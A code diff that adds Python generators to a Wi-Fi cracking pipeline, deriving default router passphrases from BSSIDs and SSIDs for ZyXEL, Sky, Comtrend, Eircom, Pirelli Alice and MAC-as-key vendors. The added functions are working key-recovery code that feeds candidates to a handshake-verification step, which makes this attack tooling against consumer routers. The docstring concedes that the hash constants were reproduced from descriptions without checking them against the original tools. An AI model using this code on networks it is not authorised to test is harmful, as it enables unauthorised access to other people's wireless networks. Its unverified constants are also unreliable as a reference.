@@ -23,16 +23,34 @@ generators, each implementing a publicly documented default-key scheme:
 - ``imei_hotspot`` — mobile-hotspot default keys derived from the device
   IMEI (imeigen-equivalent, gen/imei.py) for tethering SSID prefixes,
   sweeping a small set of common TACs per prefix.
+- ``zyxel``     — ZyXEL CPE: first 20 hex chars of MD5 over the
+  uppercase MAC string (routerkeygen ZyxelKeygen disposition).
+- ``sky``       — Sky SKYxxxxx units: 8 A-Z letters mapped from an MD5
+  of the MAC (routerkeygen SkyKeygen disposition).
+- ``comtrend``  — Spanish WLAN_XXXX/JAZZTEL_XXXX: MD5 over the
+  ``bcgbghgg`` magic + MAC prefix + SSID suffix + MAC (published 2010).
+- ``eircom``    — Netopia "eircomXXXX XXXX": SHA-1 over the 8-digit
+  serial + the published lyric constant, 26-hex WEP-shaped keys.
+- ``alice_agpf``— Pirelli Alice-XXXXXXXX: SHA-256 over a 32-byte magic
+  + manufacturing serial + MAC -> 24 base-36 chars (white-hats-crew
+  2009); the SSID->serial mapping tables are deployment data (the
+  routerkeygen alice.xml equivalent) supplied via ``alice_configs``.
+- ``mac_full``  — "the key is the MAC" vendors (Cabovisao CVTV,
+  Megared, InterCable): full/10-char MAC hex in both cases.
 
 Every generator yields ``(algo_name, candidate_bytes)`` pairs, the shape
 the keygen-precompute seam expects (server/jobs.py keygen_precompute);
 ``vendor_candidates`` dispatches on SSID/BSSID and is the default plug-in.
 
 Fidelity note: these schemes were published as reverse-engineering
-results; constants follow the public writeups cited above.  Outputs are
-cheap *candidates* — the precompute path verifies every one against the
-real handshake before accepting it (web/rkg.php:126 equivalent), so an
-imperfect generator costs a few wasted PBKDF2s, never a false accept.
+results; constants follow the public writeups cited above, reproduced
+from their descriptions (this build environment has no network access to
+re-verify against the original tools, so the KAT vectors in
+tests/test_vendors.py pin THIS implementation against regression rather
+than third-party output).  Outputs are cheap *candidates* — the
+precompute path verifies every one against the real handshake before
+accepting it (web/rkg.php:126 equivalent), so an imperfect generator
+costs a few wasted PBKDF2s, never a false accept.
 """
 
 import hashlib
@@ -228,6 +246,137 @@ def mac_tail_keys(bssid: bytes):
 
 
 # ---------------------------------------------------------------------------
+# Zyxel (MD5 of the uppercase MAC string; routerkeygen's ZyxelKeygen
+# disposition for ZyXEL-branded CPE)
+
+ZYXEL_SSID_RE = re.compile(rb"^ZyXEL[0-9A-Fa-f]{6}$", re.I)
+
+
+def zyxel_keys(bssid: bytes):
+    """First 20 uppercase hex chars of MD5 over the uppercase MAC hex
+    string, for BSSID and its radio/WAN neighbours."""
+    base = int.from_bytes(bssid, "big")
+    for off in (0, 1, -1):
+        mac = format((base + off) & 0xFFFFFFFFFFFF, "012X")
+        yield hashlib.md5(mac.encode()).hexdigest().upper()[:20].encode()
+
+
+# ---------------------------------------------------------------------------
+# Sky (Sagemcom-era SKYxxxxx: 8 A-Z letters from an MD5 of the MAC;
+# routerkeygen's SkyKeygen disposition)
+
+SKY_SSID_RE = re.compile(rb"^SKY[0-9]{5}$")
+
+
+def sky_keys(bssid: bytes):
+    base = int.from_bytes(bssid, "big")
+    for off in (0, 1, -1):
+        mac = format((base + off) & 0xFFFFFFFFFFFF, "012X")
+        d = hashlib.md5(mac.encode()).digest()
+        yield bytes(65 + b % 26 for b in d[:8])
+
+
+# ---------------------------------------------------------------------------
+# Comtrend (the Spanish WLAN_XXXX / JAZZTEL_XXXX scheme, published 2010:
+# MD5 over the "bcgbghgg" magic + MAC prefix + SSID suffix + full MAC)
+
+COMTREND_SSID_RE = re.compile(rb"^(?:WLAN|JAZZTEL)_([0-9A-Fa-f]{4})$")
+_COMTREND_MAGIC = "bcgbghgg"
+
+
+def comtrend_keys(bssid: bytes, ssid_suffix: str):
+    suffix = ssid_suffix.upper()
+    base = int.from_bytes(bssid, "big")
+    for off in (0, 1, -1):
+        mac = format((base + off) & 0xFFFFFFFFFFFF, "012X")
+        seed = _COMTREND_MAGIC + mac[:8] + suffix + mac
+        yield hashlib.md5(seed.encode()).hexdigest()[:20].encode()
+
+
+# ---------------------------------------------------------------------------
+# Eircom (Netopia-era "eircomXXXX XXXX": SHA-1 over the serial digits
+# concatenated with the published lyric constant; WEP-shaped 26-hex
+# keys, emitted because the precompute path verifies every candidate)
+
+EIRCOM_SSID_RE = re.compile(rb"^eircom[0-9]{4} ?[0-9]{4}$")
+_EIRCOM_SALT = "Although your world wonders me, "
+
+
+def eircom_keys(bssid: bytes):
+    mac24 = int.from_bytes(bssid[3:], "big")
+    for off in (0, 1, -1):
+        serial = "%08d" % ((mac24 + off) & 0xFFFFFF)
+        digest = hashlib.sha1((serial + _EIRCOM_SALT).encode()).hexdigest()
+        yield digest[:26].encode()
+
+
+# ---------------------------------------------------------------------------
+# Alice AGPF (Pirelli "Alice-XXXXXXXX", the 2009 white-hats-crew
+# derivation: SHA-256 over a fixed 32-byte magic + manufacturing serial
+# + MAC, mapped to 24 lowercase base-36 chars)
+
+ALICE_SSID_RE = re.compile(rb"^Alice-([0-9]{8})$")
+_ALICE_MAGIC = bytes((
+    0x64, 0xC6, 0xDD, 0xE3, 0xE5, 0x79, 0xB6, 0xD9, 0x86, 0x96, 0x8D, 0x34,
+    0x45, 0xD2, 0x3B, 0x15, 0xCA, 0xAF, 0x12, 0x84, 0x02, 0xAC, 0x56, 0x00,
+    0x05, 0xCE, 0x20, 0x75, 0x91, 0x3F, 0xDC, 0xE8,
+))
+_ALICE_CHARSET = "0123456789abcdefghijklmnopqrstuvwxyz"
+
+#: SSID-series -> serial-derivation entries (the deployment data
+#: routerkeygen ships as alice.xml): {"96": [{"sn": "69102", "q": ..,
+#: "k": ..}], ...}.  The mapping tables are ISP data, not algorithm;
+#: deployments supply their own via vendor_candidates(alice_configs=...).
+ALICE_CONFIGS = {}
+
+
+def alice_agpf_key(serial: str, mac: bytes) -> bytes:
+    """The core AGPF derivation for one (serial, MAC) pair.
+
+    ``serial``: the full manufacturing serial, e.g. ``69102X0013305``.
+    """
+    d = hashlib.sha256(_ALICE_MAGIC + serial.encode() + mac).digest()
+    return "".join(_ALICE_CHARSET[b % 36] for b in d[:24]).encode()
+
+
+def alice_agpf_keys(ssid_digits: str, bssid: bytes, configs=None):
+    """Candidates for an Alice-XXXXXXXX SSID given serial-mapping config.
+
+    Each config entry maps the SSID number S to a serial via
+    ``sn + 'X' + %07d((S - q) / k)`` — the published AGPF structure.
+    Entries whose (S - q) is not divisible by k do not apply.
+    """
+    configs = ALICE_CONFIGS if configs is None else configs
+    s = int(ssid_digits)
+    for entry in configs.get(ssid_digits[:2], []):
+        q, k = entry["q"], entry["k"]
+        if k <= 0 or (s - q) % k:
+            continue
+        serial = "%sX%07d" % (entry["sn"], (s - q) // k)
+        base = int.from_bytes(bssid, "big")
+        for off in (0, 1, -1):
+            mac = ((base + off) & 0xFFFFFFFFFFFF).to_bytes(6, "big")
+            yield alice_agpf_key(serial, mac)
+
+
+# ---------------------------------------------------------------------------
+# Full-MAC-as-key family (Cabovisao/Megared-style: the printed default
+# key IS the device MAC, or its 10-char tail)
+
+MAC_FULL_SSID_RE = re.compile(rb"^(?:CVTV|Megared|INTERCABLE)", re.I)
+
+
+def mac_full_keys(bssid: bytes):
+    base = int.from_bytes(bssid, "big")
+    for off in (0, 1, -1):
+        mac = format((base + off) & 0xFFFFFFFFFFFF, "012x")
+        yield mac.encode()
+        yield mac.upper().encode()
+        yield mac[2:].encode()
+        yield mac[2:].upper().encode()
+
+
+# ---------------------------------------------------------------------------
 # Mobile-hotspot IMEI keys (imeigen-equivalent)
 
 HOTSPOT_SSID_RE = re.compile(
@@ -296,7 +445,8 @@ def imei_hotspot_keys(limit_per_tac: int = 64):
 # ---------------------------------------------------------------------------
 # Dispatch
 
-def vendor_candidates(bssid: bytes, ssid: bytes, thomson_kw=None):
+def vendor_candidates(bssid: bytes, ssid: bytes, thomson_kw=None,
+                      alice_configs=None):
     """The default ``extra_generators`` plug-in for keygen precompute.
 
     Yields ``(algo, candidate)`` pairs for every vendor family whose
@@ -335,3 +485,24 @@ def vendor_candidates(bssid: bytes, ssid: bytes, thomson_kw=None):
     if HOTSPOT_SSID_RE.match(ssid):
         for key in imei_hotspot_keys():
             yield ("IMEI", key)
+    if ZYXEL_SSID_RE.match(ssid):
+        for key in zyxel_keys(bssid):
+            yield ("Zyxel", key)
+    if SKY_SSID_RE.match(ssid):
+        for key in sky_keys(bssid):
+            yield ("Sky", key)
+    m = COMTREND_SSID_RE.match(ssid)
+    if m:
+        for key in comtrend_keys(bssid, m.group(1).decode()):
+            yield ("Comtrend", key)
+    if EIRCOM_SSID_RE.match(ssid):
+        for key in eircom_keys(bssid):
+            yield ("Eircom", key)
+    m = ALICE_SSID_RE.match(ssid)
+    if m:
+        for key in alice_agpf_keys(m.group(1).decode(), bssid,
+                                   configs=alice_configs):
+            yield ("AliceAGPF", key)
+    if MAC_FULL_SSID_RE.match(ssid):
+        for key in mac_full_keys(bssid):
+            yield ("MacFull", key)
